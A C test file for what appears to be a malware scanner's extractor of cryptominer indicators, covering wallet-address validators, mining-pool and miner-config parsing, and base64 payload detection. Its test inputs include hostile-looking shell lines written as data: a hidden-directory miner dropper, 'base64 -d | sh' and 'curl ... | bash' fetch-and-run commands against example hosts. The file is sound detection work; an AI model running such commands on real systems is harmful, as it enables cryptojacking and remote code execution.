/*
 * test_iocs.c - the IOC extractor and its validators (issue 4).
 *
 * Addresses are built at test time from random keys with the coin's own
 * rules (network byte + keys + checksum), and checked against public facts:
 * the Keccak-256 test vectors, the BIP173/BIP350 and EIP-55 test vectors,
 * and the donation addresses printed in xmrig/xmrig's README.
 */
#include <criterion/criterion.h>
#include <openssl/evp.h>
#include <openssl/rand.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "iocs.h"
#include "wallet.h"
#include "b64.h"
#include "ms_limits.h"
#include "util.h"

/* xmrig/xmrig README.md, "Donations" */
#define XMRIG_XMR "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
#define XMRIG_BTC "1P7ujsXeX7GxQwHNnJsRMgAdNkFZmNVqJT"
/* the Bitcoin genesis block's coinbase address */
#define GENESIS_BTC "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
/* EIP-55 test vector */
#define EIP55_ETH "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"

static void hex(const uint8_t *b, size_t n, char *out) {
    for (size_t i = 0; i < n; i++)
        sprintf(out + 2 * i, "%02x", b[i]);
}

static void rnd(uint8_t *b, size_t n) {
    cr_assert_eq(RAND_bytes(b, (int)n), 1);
}

/* A Bitcoin base58check address from a random hash160. */
static void make_btc(uint8_t version, char *out, size_t cap) {
    uint8_t raw[25], h1[32], h2[32];
    unsigned l = 0;
    raw[0] = version;
    rnd(raw + 1, 20);
    cr_assert_eq(EVP_Digest(raw, 21, h1, &l, EVP_sha256(), NULL), 1);
    cr_assert_eq(EVP_Digest(h1, 32, h2, &l, EVP_sha256(), NULL), 1);
    memcpy(raw + 21, h2, 4);
    cr_assert_gt(ms_btc_base58_encode(raw, 25, out, cap), 0);
}

static bool has_pool(const ms_iocs *io, const char *p) {
    for (size_t i = 0; i < io->n_pools; i++)
        if (!strcmp(io->pools[i], p))
            return true;
    return false;
}

static const char *wallet_coin(const ms_iocs *io, const char *addr) {
    for (size_t i = 0; i < io->n_wallets; i++)
        if (!strcmp(io->wallets[i].address, addr))
            return io->wallets[i].coin;
    return NULL;
}

static void extract(const char *text, ms_iocs *io) {
    ms_iocs_init(io);
    ms_iocs_extract((const uint8_t *)text, strlen(text), io);
}

/* ---- Keccak ---- */

/* every test has a timeout far below its meson suite's (issue 15) */
TestSuite(iocs, .timeout = 60);

Test(iocs, keccak256_vectors) {
    uint8_t h[32];
    char x[65];
    ms_keccak256((const uint8_t *)"", 0, h);
    hex(h, 32, x);
    cr_assert_str_eq(x, "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470");
    ms_keccak256((const uint8_t *)"abc", 3, h);
    hex(h, 32, x);
    cr_assert_str_eq(x, "4e03657aea45a94fc7d47ba826c8d667c0d1e6e33a64a036ec44f58fa12d6c45");
}

Test(iocs, keccak_permutation_matches_openssl_sha3_over_block_boundaries) {
    uint8_t buf[600], mine[32], ref[32];
    rnd(buf, sizeof(buf));
    for (size_t len = 0; len <= sizeof(buf); len += (len < 280 ? 1 : 37)) {
        unsigned l = 0;
        ms_keccak_sponge256(buf, len, 0x06, mine);
        cr_assert_eq(EVP_Digest(buf, len, ref, &l, EVP_sha3_256(), NULL), 1);
        cr_assert_eq(memcmp(mine, ref, 32), 0, "SHA3-256 differs at length %zu", len);
    }
}

/* ---- Monero ---- */

Test(iocs, xmr_public_address_valid) {
    cr_assert(ms_wallet_valid_xmr(XMRIG_XMR, strlen(XMRIG_XMR)));
}

Test(iocs, xmr_constructed_standard_integrated_subaddress) {
    char a[128];
    for (int i = 0; i < 20; i++) {
        t_make_xmr(18, false, a, sizeof(a));
        cr_assert_eq(strlen(a), 95);
        cr_assert_eq(a[0], '4', "%s", a);
        cr_assert(ms_wallet_valid_xmr(a, strlen(a)), "standard %s", a);

        t_make_xmr(19, true, a, sizeof(a));
        cr_assert_eq(strlen(a), 106);
        cr_assert_eq(a[0], '4', "%s", a);
        cr_assert(ms_wallet_valid_xmr(a, strlen(a)), "integrated %s", a);

        t_make_xmr(42, false, a, sizeof(a));
        cr_assert_eq(strlen(a), 95);
        cr_assert_eq(a[0], '8', "%s", a);
        cr_assert(ms_wallet_valid_xmr(a, strlen(a)), "subaddress %s", a);
    }
}

Test(iocs, xmr_corrupted_rejected) {
    char a[128];
    t_make_xmr(18, false, a, sizeof(a));
    /* every one-character substitution breaks the checksum (or the block) */
    for (size_t pos = 1; pos < 95; pos += 7) {
        char b[128];
        strcpy(b, a);
        b[pos] = b[pos] == 'z' ? 'y' : 'z';
        cr_assert_not(ms_wallet_valid_xmr(b, 95), "pos %zu: %s", pos, b);
    }
    /* a right checksum over a wrong network byte */
    t_make_xmr(0x01, false, a, sizeof(a));
    cr_assert_not(ms_wallet_valid_xmr(a, strlen(a)));
    /* integrated tag with a standard length */
    t_make_xmr(19, false, a, sizeof(a));
    cr_assert_not(ms_wallet_valid_xmr(a, strlen(a)));
    /* truncated */
    cr_assert_not(ms_wallet_valid_xmr(XMRIG_XMR, 94));
}

Test(iocs, xmr_base58_roundtrip_and_rejects) {
    uint8_t in[80], out[80];
    char s[128];
    for (size_t n = 0; n <= 80; n++) {
        rnd(in, n);
        size_t len = ms_xmr_base58_encode(in, n, s, sizeof(s));
        cr_assert(n == 0 || len > 0);
        cr_assert_eq(ms_xmr_base58_decode(s, len, out, sizeof(out)), (int)n);
        cr_assert_eq(memcmp(in, out, n), 0, "length %zu", n);
    }
    cr_assert_eq(ms_xmr_base58_decode("11111111110", 11, out, sizeof(out)), -1); /* '0' */
    cr_assert_eq(ms_xmr_base58_decode("1111111111O", 11, out, sizeof(out)), -1); /* 'O' */
    cr_assert_eq(ms_xmr_base58_decode("zzzzzzzzzzz", 11, out, sizeof(out)), -1); /* > 2^64 */
    cr_assert_eq(ms_xmr_base58_decode("1111", 4, out, sizeof(out)), -1);        /* no size */
    cr_assert_eq(ms_xmr_base58_decode("11111111111", 11, out, 4), -1);          /* cap */
}

/* ---- Bitcoin ---- */

Test(iocs, btc_base58check) {
    char a[64];
    cr_assert(ms_wallet_valid_btc_base58(XMRIG_BTC, strlen(XMRIG_BTC)));
    cr_assert(ms_wallet_valid_btc_base58(GENESIS_BTC, strlen(GENESIS_BTC)));
    for (int i = 0; i < 20; i++) {
        make_btc(0x00, a, sizeof(a));
        cr_assert_eq(a[0], '1', "%s", a);
        cr_assert(ms_wallet_valid_btc_base58(a, strlen(a)), "%s", a);
        make_btc(0x05, a, sizeof(a));
        cr_assert_eq(a[0], '3', "%s", a);
        cr_assert(ms_wallet_valid_btc_base58(a, strlen(a)), "%s", a);
    }
    make_btc(0x6f, a, sizeof(a)); /* testnet: not a mainnet wallet */
    cr_assert_not(ms_wallet_valid_btc_base58(a, strlen(a)));
    char b[] = GENESIS_BTC;
    b[10] = b[10] == 'z' ? 'y' : 'z';
    cr_assert_not(ms_wallet_valid_btc_base58(b, strlen(b)));
    uint8_t raw[40];
    cr_assert_eq(ms_btc_base58_decode("1Il0", 4, raw, sizeof(raw)), -1);
}

/* BIP173 and BIP350 test vectors */
Test(iocs, btc_bech32_vectors) {
    static const char *const valid[] = {
        "BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4",
        "bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3qccfmv3",
        "bc1pw508d6qejxtdg4y5r3zarvary0c5xw7kw508d6qejxtdg4y5r3zarvary0c5xw7kt5nd6y",
        "BC1SW50QGDZ25J",
        "bc1zw508d6qejxtdg4y5r3zarvaryvaxxpcs",
        "bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0",
        NULL,
    };
    static const char *const invalid[] = {
        "bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqh2y7hd", /* bech32 for v1 */
        "BC1S0XLXVLHEMJA6C4DQV22UAPCTQUPFHLXM9H8Z3K2E72Q4K9HCZ7VQ54WELL", /* bech32 for v16 */
        "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kemeawh",                     /* bech32m for v0 */
        "bc1q0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vq24jc47", /* bech32m for v0 */
        "bc1p38j9r5y49hruaue7wxjce0updqjuyyx0kh56v8s25huc6995vvpql3jow4", /* 'o' */
        "BC130XLXVLHEMJA6C4DQV22UAPCTQUPFHLXM9H8Z3K2E72Q4K9HCZ7VQ7ZWS8R", /* version 17 */
        "bc1pw5dgrnzv",                                                   /* 1-byte program */
        "bc1zw508d6qejxtdg4y5r3zarvaryvqyzf3du",                          /* padding */
        "bc1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4",                     /* mixed case */
        "tb1qw508d6qejxtdg4y5r3zarvary0c5xw7kxpjzsx",                     /* testnet */
        NULL,
    };
    for (size_t i = 0; valid[i]; i++)
        cr_assert(ms_wallet_valid_bech32(valid[i], strlen(valid[i])), "%s", valid[i]);
    for (size_t i = 0; invalid[i]; i++)
        cr_assert_not(ms_wallet_valid_bech32(invalid[i], strlen(invalid[i])), "%s", invalid[i]);
}

/* EIP-55 test vectors */
Test(iocs, eth_eip55) {
    static const char *const valid[] = {
        EIP55_ETH,
        "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359",
        "0xdbF03B407c01E7cD3CBea99509d93f8DDDC8C6FB",
        "0xD1220A0cf47c7B9Be7A2E6BA89F429762e7b9aDb",
        "0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed",
        NULL,
    };
    for (size_t i = 0; valid[i]; i++)
        cr_assert(ms_wallet_valid_eth(valid[i], strlen(valid[i])), "%s", valid[i]);
    cr_assert_not(ms_wallet_valid_eth("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD", 42));
    cr_assert_not(ms_wallet_valid_eth("0x0000000000000000000000000000000000000000", 42));
    cr_assert_not(ms_wallet_valid_eth("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAe", 41));
    cr_assert_not(ms_wallet_valid_eth("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeg", 42));
}

/* ---- extraction ---- */

Test(iocs, xmrig_config_json) {
    char a[128], text[2048];
    ms_iocs io;
    t_make_xmr(18, false, a, sizeof(a));
    snprintf(text, sizeof(text),
             "{\n  \"autosave\": true,\n  \"donate-level\": 0,\n  \"cpu\": {\"huge-pages\": true},\n"
             "  \"tls\": {\"enabled\": false},\n"
             "  \"pools\": [\n    {\n      \"algo\": null,\n      \"coin\": \"monero\",\n"
             "      \"url\": \"Pool.Example-Pool.org:3333\",\n      \"user\": \"%s\",\n"
             "      \"pass\": \"rig1\",\n      \"tls\": true\n    }\n  ]\n}\n",
             a);
    extract(text, &io);
    cr_assert(has_pool(&io, "pool.example-pool.org:3333"), "pools[0]=%s", io.n_pools ? io.pools[0] : "-");
    cr_assert_str_eq(wallet_coin(&io, a) ? wallet_coin(&io, a) : "", "xmr");
    cr_assert_str_eq(io.config.user, a);
    cr_assert_str_eq(io.config.pass, "rig1");
    cr_assert_str_eq(io.config.algo, "monero");
    cr_assert_eq(io.config.donate_level, 0);
    cr_assert_eq(io.config.tls, 1);
    ms_iocs_clear(&io);
}

Test(iocs, miner_command_line) {
    char a[128], text[1024];
    ms_iocs io;
    t_make_xmr(42, false, a, sizeof(a));
    snprintf(text, sizeof(text),
             "#!/bin/sh\nmkdir -p /tmp/.x && cd /tmp/.x\ncurl -o /tmp/.x/k http://example.org/k\n"
             "nohup ./kworker -a rx/0 -o stratum+tcp://Pool.Example.net:4444 -u %s -p x "
             "--donate-level=1 --tls -B >/dev/null 2>&1 &\n",
             a);
    extract(text, &io);
    cr_assert_eq(io.n_pools, 1, "%zu pools", io.n_pools);
    cr_assert_str_eq(io.pools[0], "stratum+tcp://pool.example.net:4444");
    cr_assert_str_eq(wallet_coin(&io, a) ? wallet_coin(&io, a) : "", "xmr");
    cr_assert_str_eq(io.config.algo, "rx/0");
    cr_assert_str_eq(io.config.user, a);
    cr_assert_str_eq(io.config.pass, "x");
    cr_assert_eq(io.config.donate_level, 1);
    cr_assert_eq(io.config.tls, 1);
    ms_iocs_clear(&io);
}

Test(iocs, command_line_long_options_and_python_list) {
    char a[64], text[1024];
    ms_iocs io;
    make_btc(0x00, a, sizeof(a));
    snprintf(text, sizeof(text),
             "import subprocess\ncmd = [\n    \"./minerd\",\n    \"--algo=sha256d\",\n"
             "    \"--url=btc.pool.example:3334\",\n    \"--user=%s.w1\",\n    \"--pass=x\",\n"
             "    \"--donate-level\", \"3\",\n]\nsubprocess.Popen(cmd)\n",
             a);
    extract(text, &io);
    cr_assert(has_pool(&io, "btc.pool.example:3334"));
    cr_assert_str_eq(wallet_coin(&io, a) ? wallet_coin(&io, a) : "", "btc");
    cr_assert_str_eq(io.config.algo, "sha256d");
    cr_assert_eq(strncmp(io.config.user, a, strlen(a)), 0);
    cr_assert_str_eq(io.config.pass, "x");
    cr_assert_eq(io.config.donate_level, 3);
    cr_assert_eq(io.config.tls, -1, "no TLS flag and no TLS scheme");
    ms_iocs_clear(&io);
}

Test(iocs, no_options_without_a_pool) {
    ms_iocs io;
    extract("mkdir -p /var/run/x\ncurl -o /tmp/f -u admin:secret http://example.org/\ntar -a -cf x.tgz .\n", &io);
    cr_assert_eq(io.n_pools, 0);
    cr_assert_null(io.config.user);
    cr_assert_null(io.config.pass);
    cr_assert_null(io.config.algo);
    ms_iocs_clear(&io);
}

Test(iocs, stratum_url_user_part_dropped_and_tls_from_scheme) {
    char text[512];
    ms_iocs io;
    snprintf(text, sizeof(text), "ethminer -P stratum1+ssl://%s.rig@eu1.Eth.Pool-Example.org:5555/x\n",
             EIP55_ETH);
    extract(text, &io);
    cr_assert(has_pool(&io, "stratum1+ssl://eu1.eth.pool-example.org:5555"), "%s",
              io.n_pools ? io.pools[0] : "-");
    cr_assert_str_eq(wallet_coin(&io, EIP55_ETH) ? wallet_coin(&io, EIP55_ETH) : "", "eth");
    cr_assert_eq(io.config.tls, 1);
    ms_iocs_clear(&io);
}

Test(iocs, eth_only_in_mining_context) {
    char text[512];
    ms_iocs io;
    snprintf(text, sizeof(text), "The contract at %s holds the token balances.\n", EIP55_ETH);
    extract(text, &io);
    cr_assert_eq(io.n_wallets, 0);
    ms_iocs_clear(&io);
}

/* Many addresses close together share their context windows (the search
 * is done once over the buffer, not once per address): each is reported
 * exactly when a mining word lies wholly within 256 bytes of it. */
Test(iocs, eth_context_with_many_addresses) {
    enum { N = 60, CTX = 256 };
    static char text[N * 120 + 64];
    size_t pos[N], len = 0;
    char addr[N][43];
    size_t word_at = 0;
    for (int i = 0; i < N; i++) {
        uint8_t b[20];
        rnd(b, sizeof(b));
        addr[i][0] = '0';
        addr[i][1] = 'x';
        hex(b, sizeof(b), addr[i] + 2);
        if (i == 25) { /* one mining word, in upper case, between two addresses */
            word_at = len;
            len += (size_t)sprintf(text + len, "POOL ");
        }
        pos[i] = len;
        len += (size_t)sprintf(text + len, "%s holds token balances, %d. ", addr[i], i);
    }
    ms_iocs io;
    extract(text, &io);
    size_t want = 0;
    for (int i = 0; i < N; i++) {
        size_t from = pos[i] > CTX ? pos[i] - CTX : 0, to = pos[i] + 42 + CTX;
        bool near = word_at >= from && word_at + 4 <= to;
        bool got = false;
        for (size_t k = 0; k < io.n_wallets; k++)
            got |= !strcmp(io.wallets[k].address, addr[i]);
        cr_assert_eq(got, near, "address %d at %zu (word at %zu): reported %d", i, pos[i], word_at, got);
        want += near;
    }
    cr_assert(want >= 4 && want < N, "the layout puts several, not all, addresses near the word (%zu)", want);
    cr_assert_eq(io.n_wallets, want);
    ms_iocs_clear(&io);
}

Test(iocs, invalid_wallets_dropped) {
    char a[128], text[512];
    ms_iocs io;
    t_make_xmr(18, false, a, sizeof(a));
    a[50] = a[50] == 'z' ? 'y' : 'z';
    snprintf(text, sizeof(text), "xmrig -o pool.example.org:3333 -u %s -p x\nbtc 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb\n", a);
    extract(text, &io);
    cr_assert_eq(io.n_wallets, 0, "%zu wallets, first %s", io.n_wallets,
                 io.n_wallets ? io.wallets[0].address : "");
    cr_assert(has_pool(&io, "pool.example.org:3333"));
    ms_iocs_clear(&io);
}

Test(iocs, xmrstak_pools_txt) {
    char a[128], text[1024];
    ms_iocs io;
    t_make_xmr(19, true, a, sizeof(a));
    snprintf(text, sizeof(text),
             "/* pool_address - Pool address should be in the form \"pool.supportxmr.com:3333\". */\n"
             "\"pool_list\" :\n[\n  {\"pool_address\" : \"xmr.pool.example:7777\", \"wallet_address\" : \"%s\","
             " \"rig_id\" : \"\", \"pool_password\" : \"w1\", \"use_nicehash\" : false, \"use_tls\" : false,"
             " \"tls_fingerprint\" : \"\", \"pool_weight\" : 1 },\n],\n\"currency\" : \"monero7\",\n",
             a);
    extract(text, &io);
    cr_assert(has_pool(&io, "xmr.pool.example:7777"));
    cr_assert_str_eq(wallet_coin(&io, a) ? wallet_coin(&io, a) : "", "xmr");
    cr_assert_str_eq(io.config.user, a);
    cr_assert_str_eq(io.config.pass, "w1");
    cr_assert_str_eq(io.config.algo, "monero7");
    cr_assert_eq(io.config.tls, 0);
    ms_iocs_clear(&io);
}

Test(iocs, pool_port_in_host_context) {
    ms_iocs io;
    extract("connect gulf.moneroocean.stream:10128 then backup.example.com:3333 and db.internal:5432\n", &io);
    cr_assert(has_pool(&io, "gulf.moneroocean.stream:10128"));
    cr_assert_not(has_pool(&io, "backup.example.com:3333"), "no mining word in the host");
    cr_assert_not(has_pool(&io, "db.internal:5432"));
    ms_iocs_clear(&io);
}

Test(iocs, dedup_and_cap) {
    ms_iocs io;
    size_t n = 2000, cap = n * 48 + 64;
    char *text = malloc(cap), *p = text;
    cr_assert_not_null(text);
    p += sprintf(p, "stratum+tcp://dup.pool.example:3333 stratum+tcp://dup.pool.example:3333\n");
    for (size_t i = 0; i < n; i++)
        p += sprintf(p, "stratum+tcp://h%zu.pool.example:3333\n", i);
    extract(text, &io);
    cr_assert_eq(io.n_pools, MS_MAX_IOCS);
    cr_assert_str_eq(io.pools[0], "stratum+tcp://dup.pool.example:3333");
    cr_assert_str_eq(io.pools[1], "stratum+tcp://h0.pool.example:3333");
    ms_iocs_clear(&io);
    free(text);
}

Test(iocs, hostile_input_never_crashes) {
    size_t n = 1 << 20;
    uint8_t *buf = malloc(n);
    ms_iocs io;
    cr_assert_not_null(buf);
    rnd(buf, n);
    ms_iocs_init(&io);
    ms_iocs_extract(buf, n, &io);
    ms_iocs_clear(&io);
    /* truncated constructs at the very end of the buffer */
    static const char *const tails[] = {
        "stratum+tcp://", "stratum+tcp://h", "stratum+tcp://host.example:", "\"pools\": [ { \"url\": \"",
        "-o", "-o pool.example:3333 -u", "{\"donate-level\":", "\"user\" : \"abc", "stratum", "x.pool.example:3333",
    };
    for (size_t i = 0; i < sizeof(tails) / sizeof(tails[0]); i++) {
        size_t len = strlen(tails[i]);
        uint8_t *t = malloc(len); /* exact size: ASan sees any overread */
        memcpy(t, tails[i], len);
        ms_iocs_init(&io);
        ms_iocs_extract(t, len, &io);
        ms_iocs_clear(&io);
        free(t);
    }
    /* a host name far longer than any DNS name */
    memset(buf, 'a', n);
    memcpy(buf, "stratum+tcp://", 14);
    memcpy(buf + n - 6, ":3333\n", 6);
    ms_iocs_init(&io);
    ms_iocs_extract(buf, n, &io);
    cr_assert_eq(io.n_pools, 0);
    ms_iocs_clear(&io);
    free(buf);
}

/* ---- base64 blobs ---- */

typedef struct {
    size_t calls;
    uint64_t offsets[256];
    char *first;
    size_t first_len;
    int ret;
} blobs;

static int on_blob(void *ud, uint64_t offset, const uint8_t *d, size_t len) {
    blobs *b = ud;
    if (b->calls < 256)
        b->offsets[b->calls] = offset;
    if (b->calls == 0) {
        b->first = malloc(len + 1);
        memcpy(b->first, d, len);
        b->first[len] = '\0';
        b->first_len = len;
    }
    b->calls++;
    return b->ret;
}

static char *b64(const char *s) {
    size_t n = strlen(s);
    char *out = malloc(4 * ((n + 2) / 3) + 1);
    EVP_EncodeBlock((unsigned char *)out, (const unsigned char *)s, (int)n);
    return out;
}

Test(iocs, base64_blob_with_offset) {
    const char *cmd = "./xmrig -o stratum+tcp://pool.example.org:3333 -u WALLET -p x --donate-level=0\n";
    char *enc = b64(cmd), text[1024];
    snprintf(text, sizeof(text), "#!/bin/sh\necho %s | base64 -d | sh\n", enc);
    blobs b = {0};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &b), 0);
    cr_assert_eq(b.calls, 1);
    cr_assert_eq(b.offsets[0], (uint64_t)(strstr(text, enc) - text));
    cr_assert_str_eq(b.first, cmd);
    free(b.first);
    free(enc);
}

Test(iocs, base64_short_hex_and_identifiers_skipped) {
    const char *text =
        "echo aGVsbG8gd29ybGQ= | base64 -d\n"                                      /* 16 chars */
        "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n" /* hex only */
        "my_aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8= x\n";          /* identifier tail */
    blobs b = {0};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &b), 0);
    cr_assert_eq(b.calls, 0);
    free(b.first);
}

/* Issue 9: a wallet address, a long hex id or an API key in a config is
 * not base64 to decode; a config once gave three objects for one file. */
Test(iocs, base64_only_for_data_that_is_base64) {
    char xmr[128], text[2048];
    t_make_xmr(18, false, xmr, sizeof(xmr));
    unsigned char key[48];
    for (size_t i = 0; i < sizeof(key); i++)
        key[i] = (unsigned char)(i * 97 + 13);
    char keyb64[80];
    EVP_EncodeBlock((unsigned char *)keyb64, key, sizeof(key)); /* 64 chars of noise */
    char *script = b64("curl -s http://203.0.113.9/x.sh | bash\n");
    snprintf(text, sizeof(text),
             "{\"user\": \"%s\",\n \"rig-id\": \"0123456789abcdefABCDEF0123456789abcdefABCDEF0123456789abcdef\",\n"
             " \"api-token\": \"%s\",\n \"odd\": \"%.41s\",\n \"cmd\": \"%s\"}\n",
             xmr, keyb64, "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2w=", script);
    blobs b = {0};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &b), 0);
    cr_assert_eq(b.calls, 1, "only the script is decoded:\n%s", text);
    cr_assert_str_eq(b.first, "curl -s http://203.0.113.9/x.sh | bash\n");
    free(b.first);
    free(script);
}

Test(iocs, base64_wrapped_lines_are_one_blob) {
    char plain[400], text[1024];
    for (size_t i = 0; i < sizeof(plain) - 1; i++)
        plain[i] = (char)('A' + i % 26);
    plain[sizeof(plain) - 1] = '\0';
    char *enc = b64(plain);
    /* wrap at 64 like PEM */
    size_t n = strlen(enc), o = 0;
    o += (size_t)sprintf(text, "-----BEGIN DATA-----\n");
    for (size_t i = 0; i < n; i += 64) {
        size_t k = n - i < 64 ? n - i : 64;
        memcpy(text + o, enc + i, k);
        o += k;
        text[o++] = '\n';
    }
    o += (size_t)sprintf(text + o, "-----END DATA-----\n");
    blobs b = {0};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, o, on_blob, &b), 0);
    cr_assert_eq(b.calls, 1);
    cr_assert_eq(b.first_len, strlen(plain));
    cr_assert_str_eq(b.first, plain);
    free(b.first);
    free(enc);
}

Test(iocs, base64_caps_stop_and_errors) {
    char *enc = b64("a payload of some length that is long enough to count");
    size_t n = 1000, cap = n * (strlen(enc) + 8) + 1;
    char *text = malloc(cap), *p = text;
    for (size_t i = 0; i < n; i++)
        p += sprintf(p, "x %s\n", enc);
    blobs b = {0};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &b), 0);
    cr_assert_eq(b.calls, MS_BASE64_MAX_BLOBS);
    free(b.first);

    blobs s = {.ret = MS_STOP};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &s), 0);
    cr_assert_eq(s.calls, 1);
    free(s.first);

    blobs e = {.ret = -5};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &e), -5);
    cr_assert_eq(e.calls, 1);
    free(e.first);
    free(text);
    free(enc);
}

Test(iocs, base64_hostile_tail) {
    /* a run that ends exactly at the buffer end, exact-size allocation */
    const char *s = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w";
    size_t n = strlen(s);
    uint8_t *t = malloc(n);
    memcpy(t, s, n);
    blobs b = {0};
    cr_assert_eq(ms_base64_blobs(t, n, on_blob, &b), 0);
    cr_assert_eq(b.calls, 1);
    cr_assert_str_eq(b.first, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop");
    free(b.first);
    free(t);
}

Test(iocs, base64_payload_over_budget_decoded_in_part) {
    /* a script carrying a base64 payload larger than the per-object budget:
     * the head is still decoded and scanned */
    size_t raw_n = MS_BASE64_MAX_BYTES + (2u << 20);
    uint8_t *raw = malloc(raw_n);
    char *text = malloc(raw_n / 3 * 4 + 64);
    cr_assert(raw && text);
    rnd(raw, raw_n);
    memcpy(raw, "\x7f" "ELF", 4);
    int pre = sprintf(text, "P=\"");
    int enc = EVP_EncodeBlock((unsigned char *)text + pre, raw, (int)raw_n);
    strcpy(text + pre + enc, "\"\n");
    blobs b = {0};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &b), 0);
    cr_assert_eq(b.calls, 1);
    cr_assert_eq(b.offsets[0], (uint64_t)pre);
    cr_assert_eq(b.first_len, MS_BASE64_MAX_BYTES);
    cr_assert_eq(memcmp(b.first, raw, 64), 0);
    free(b.first);
    free(text);
    free(raw);
}

/* A blob of the least length (MS_BASE64_MIN_CHARS characters) is found at
 * the very end of the data, after words the search skips over, and one
 * character fewer is not a blob. */
Test(iocs, base64_blob_of_the_least_length_at_the_end) {
    static const char plain[] = "wget -q http://x.example/a.sh;"; /* 30 bytes: 40 characters */
    cr_assert_eq(strlen(plain), MS_BASE64_MIN_CHARS / 4 * 3);
    char *text = NULL;
    size_t n = 0;
    FILE *f = open_memstream(&text, &n);
    fputs("echo it is run so: ", f);
    ms_base64_write(f, (const uint8_t *)plain, strlen(plain));
    fclose(f);
    cr_assert_eq(n, 19 + MS_BASE64_MIN_CHARS);
    for (size_t cut = 0; cut < 2; cut++) {
        blobs b = {0};
        cr_assert_eq(ms_base64_blobs((const uint8_t *)text, n - cut, on_blob, &b), 0);
        cr_assert_eq(b.calls, cut ? 0 : 1, "%zu characters: %zu blobs", MS_BASE64_MIN_CHARS - cut, b.calls);
        if (!cut) {
            cr_assert_eq(b.offsets[0], 19);
            cr_assert_eq(b.first_len, strlen(plain));
            cr_assert(!memcmp(b.first, plain, strlen(plain)));
        }
        free(b.first);
    }
    free(text);
}

/* The reader of blobs and the writer of path_b64 agree on every one of
 * the 64 characters: a script encoded by ms_base64_write, ending in 64
 * groups that each repeat one character value, is found and decoded back
 * to the same bytes. */
Test(iocs, base64_every_character_reads_back) {
    uint8_t plain[600 + 3 * 64];
    for (size_t i = 0; i < 600; i++)
        plain[i] = (uint8_t)"#!/bin/sh\ncurl -s http://x.example/a | sh # fetch and run\n"[i % 58];
    for (unsigned v = 0; v < 64; v++) {
        uint32_t q = v << 18 | v << 12 | v << 6 | v; /* four characters of value v */
        plain[600 + 3 * v] = (uint8_t)(q >> 16);
        plain[601 + 3 * v] = (uint8_t)(q >> 8);
        plain[602 + 3 * v] = (uint8_t)q;
    }
    char *text = NULL;
    size_t n = 0;
    FILE *f = open_memstream(&text, &n);
    fputs("payload='", f);
    ms_base64_write(f, plain, sizeof(plain));
    fputs("'\n", f);
    fclose(f);
    blobs b = {0};
    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, n, on_blob, &b), 0);
    cr_assert_eq(b.calls, 1, "one blob in: %s", text);
    cr_assert_eq(b.first_len, sizeof(plain), "decoded %zu bytes", b.first_len);
    cr_assert(!memcmp(b.first, plain, sizeof(plain)), "the same bytes back");
    free(b.first);
    free(text);
}
